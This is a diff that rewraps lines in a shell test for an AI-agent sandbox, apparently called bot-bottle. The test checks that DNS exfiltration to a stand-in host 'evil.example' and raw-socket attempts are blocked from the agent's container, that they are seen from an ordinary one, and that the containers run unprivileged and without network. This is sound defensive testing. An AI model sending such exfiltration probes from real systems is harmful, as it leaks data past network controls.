@@ -35,7 +35,8 @@ python3 sniff.py "$marker" >seen &
 at_exit "kill $!"
 check 'all packets are looked at' wait_for grep -q ready seen
 
-# The name server that the engine asks, if it is ours: the authority for every name, and it writes down what it is asked.
+# The name server that the engine asks, if it is ours: the authority for every name.
+# It writes down what it is asked.
 cat >names.py <<'END'
 import socket, sys, threading
 def answer(query):
@@ -94,7 +95,8 @@ for name in (MARKER + ".evil.example", MARKER + ".egress"):
         answers += len(socket.getaddrinfo(name, 80))
     except OSError:
         pass
-for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_DGRAM)):
+for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW),
+                     (socket.AF_PACKET, socket.SOCK_DGRAM)):
     try:
         socket.socket(family, kind, socket.IPPROTO_ICMP)
         answers += 1
@@ -120,27 +122,32 @@ is "$(grep -vc ready seen)" 0 'no packet with the marker was on any interface of
 is "$(grep -c "$marker" asked)" 0 'the name server was asked nothing'
 
 # The same attack from a container as the engine makes it by itself is seen.
-docker run --rm --network "$lan" --dns-option timeout:1 --dns-option attempts:1 "$BOT_BOTTLE_DOCKER_BASE" python3 -c "$(cat attack.py)" >out 2>err
+docker run --rm --network "$lan" --dns-option timeout:1 --dns-option attempts:1 "$BOT_BOTTLE_DOCKER_BASE" python3 \
+	-c "$(cat attack.py)" >out 2>err
 check 'the same from an ordinary container is seen' wait_for grep -qv ready seen
 is "$(wc -c <evil.arrived | tr -d ' ' | sed 's/^[1-9].*/some/')" some 'and arrives'
 if [ -n "${BB_NAME_SERVER-}" ]; then
 	docker run --rm --network "$lan" "$BOT_BOTTLE_DOCKER_BASE" getent hosts "$marker.embedded.example" >out 2>err
-	check 'the name server is asked, by the resolver that is built into the engine' grep -q "$marker.*embedded" asked
+	check 'the name server is asked, by the resolver that is built into the engine' grep -q "$marker.*embedded" \
+		asked
 else
 	skip 'the name server is asked' 'this engine asks another'
 fi
 
 # What it is made of.
-bb start tester --backend docker --yes --headless --label looked --prompt 'echo up; exec sleep 1000' >said 2>err </dev/null &
+bb start tester --backend docker --yes --headless --label looked --prompt 'echo up; exec sleep 1000' >said 2>err \
+	</dev/null &
 bottle=$!
 at_exit "kill $bottle"
 wait_for grep -q up said
 docker inspect bot-bottle-looked >inspected
 is "$(jq -c '.[0] | [.Config.User, .HostConfig.CapDrop, .HostConfig.SecurityOpt, .HostConfig.Privileged, .HostConfig.NetworkMode, .HostConfig.Binds, .HostConfig.PidsLimit, [.Mounts[].Destination]]' inspected)" \
-	'["1000:1000",["ALL"],["no-new-privileges"],false,"none",null,4096,["/run/bot-bottle-door"]]' 'the agent'\''s container has no power, no network and no file of the host'
+	'["1000:1000",["ALL"],["no-new-privileges"],false,"none",null,4096,["/run/bot-bottle-door"]]' \
+	'the agent'\''s container has no power, no network and no file of the host'
 docker inspect bot-bottle-sidecars-looked >inspected
 is "$(jq -c --arg s "$home/state/looked" '.[0] | [.HostConfig.CapDrop, .HostConfig.SecurityOpt, .HostConfig.ReadonlyRootfs, .HostConfig.LogConfig.Type, (([.Mounts[].Destination] - [$s]) | map(sub("^.*/ca/"; "/ca/")) | sort)]' inspected)" \
-	'[["ALL"],["no-new-privileges"],true,"none",["/ca/ca.pem","/etc/passwd","/run/bot-bottle-door"]]' 'the sidecar'\''s is read-only'
+	'[["ALL"],["no-new-privileges"],true,"none",["/ca/ca.pem","/etc/passwd","/run/bot-bottle-door"]]' \
+	'the sidecar'\''s is read-only'
 unlike "$(jq -r '.[0].Config.User' inspected)" '^(0|root)?:' 'and not root'"'"'s'
 docker top bot-bottle-looked -eo pid,uid,args >top
 unlike "$(tail -n +2 top)" '^ *[0-9]+ +0 ' 'no process of the agent'"'"'s is'
